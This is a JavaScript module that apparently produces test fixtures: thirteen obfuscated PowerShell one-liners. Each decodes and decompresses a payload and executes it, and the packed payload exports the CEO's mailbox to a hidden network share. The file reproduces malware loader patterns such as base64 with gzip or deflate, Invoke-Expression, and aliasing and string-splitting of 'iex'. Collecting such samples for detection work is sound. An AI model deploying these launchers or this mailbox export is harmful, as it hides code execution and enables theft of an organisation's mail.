/**
 * Launchers: scripts that unpack a compressed call and run it, each in a form of its own, as PowerShell 7.6.9 ran them.
 */
import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";

/** The call that they unpack. */
export const PACKED = "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\srv01\\pst$\\ceo.pst";

const base64 = (bytes) => bytes.toString("base64");
const deflated = base64(deflateRawSync(PACKED));
const gzipped = base64(gzipSync(PACKED));
const zlibbed = base64(deflateSync(PACKED));
const wide = base64(gzipSync(Buffer.from(PACKED, "utf16le")));
const numbers = [...gzipSync(PACKED)].join(",");
const DECOMPRESS = "[IO.Compression.CompressionMode]::Decompress";

export const LAUNCHERS = [
  `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("${gzipped}"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,${DECOMPRESS}))).ReadToEnd();`,
  `$d=[Convert]::FromBase64String('${gzipped}');$ms=[System.IO.MemoryStream]::new();$ms.Write($d,0,$d.Length);$ms.Seek(0,0)|Out-Null;$g=[System.IO.Compression.GZipStream]::new($ms,${DECOMPRESS});$r=[System.IO.StreamReader]::new($g);$t=$r.ReadToEnd();$r.Close();Invoke-Expression $t`,
  `using namespace System.IO
using namespace System.IO.Compression
$ms = [MemoryStream]::new([Convert]::FromBase64String('${gzipped}'))
$gz = [GZipStream]::new($ms, [CompressionMode]::Decompress)
$out = [MemoryStream]::new()
$gz.CopyTo($out)
$gz.Dispose()
[Text.Encoding]::UTF8.GetString($out.ToArray()) | iex`,
  `$b=[byte[]](${numbers});$in=New-Object System.IO.MemoryStream(,$b);$gz=New-Object System.IO.Compression.GZipStream $in, (${DECOMPRESS});$buf=New-Object byte[] 1024;$out=New-Object System.IO.MemoryStream;while(($n=$gz.Read($buf,0,1024)) -gt 0){$out.Write($buf,0,$n)};&([scriptblock]::Create([Text.Encoding]::ASCII.GetString($out.ToArray())))`,
  `$ms=New-Object System.IO.MemoryStream;$b=[Convert]::FromBase64String('${zlibbed}');$ms.Write($b,0,$b.Length);$ms.Position=0;$null=$ms.ReadByte();$null=$ms.ReadByte();$r=New-Object System.IO.StreamReader((New-Object System.IO.Compression.DeflateStream($ms,${DECOMPRESS})));iex $r.ReadToEnd()`,
  `sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflated}'),${DECOMPRESS})),[Text.Encoding]::ASCII)).ReadToEnd()`,
  `$r=New-Object IO.StreamReader(New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(@(,[Convert]::FromBase64String('${gzipped}')))),${DECOMPRESS})); while(-not $r.EndOfStream){ iex $r.ReadLine() }`,
  `& ([scriptblock]::create((New-Object System.IO.StreamReader(New-Object System.IO.Compression.GzipStream((New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String((('${gzipped}')-f'u')))),${DECOMPRESS}))).ReadToEnd()))`,
  `iex ([IO.StreamReader]::new([IO.Compression.GZipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('${wide}')),${DECOMPRESS}),[Text.Encoding]::Unicode).ReadToEnd())`,
  `function Expand-It { param([byte[]]$Bytes) $i=New-Object System.IO.MemoryStream(,$Bytes); $o=New-Object System.IO.MemoryStream; $g=New-Object System.IO.Compression.GzipStream $i, (${DECOMPRESS}); $g.CopyTo($o); $g.Close(); $i.Close(); [byte[]]$r=$o.ToArray(); return $r }
$t=[Text.Encoding]::UTF8.GetString((Expand-It ([Convert]::FromBase64String('${gzipped}'))))
Invoke-Expression $t`,
  `(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflated}'),${DECOMPRESS}) | % { New-Object IO.StreamReader($_,[Text.Encoding]::ASCII) } | % { $_.ReadToEnd() }) | & ('i'+'ex')`,
  `$g=New-Object IO.Compression.GZipStream([IO.MemoryStream]::new([Convert]::FromBase64String('${gzipped}')),[IO.Compression.CompressionMode]'Decompress');iex (-join([IO.StreamReader]$g).ReadToEnd())`,
  `try { $in=[IO.MemoryStream]::new([Convert]::FromBase64String('${gzipped}')); $g=[IO.Compression.GZipStream]::new($in,${DECOMPRESS}); $sr=[IO.StreamReader]::new($g); $code=$sr.ReadToEnd() } finally { $sr.Dispose(); $g.Dispose(); $in.Dispose() }; iex $code`,
];
